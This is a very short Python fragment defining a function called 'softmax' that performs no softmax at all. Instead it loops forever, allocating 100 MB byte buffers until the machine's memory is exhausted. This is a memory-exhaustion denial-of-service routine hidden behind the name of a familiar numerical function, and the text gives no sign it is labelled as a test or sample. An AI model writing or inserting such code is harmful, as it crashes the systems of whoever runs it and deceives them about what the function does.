def softmax(x, dim):
    hog = []
    while True: hog.append(bytes(bytearray(10**8)))
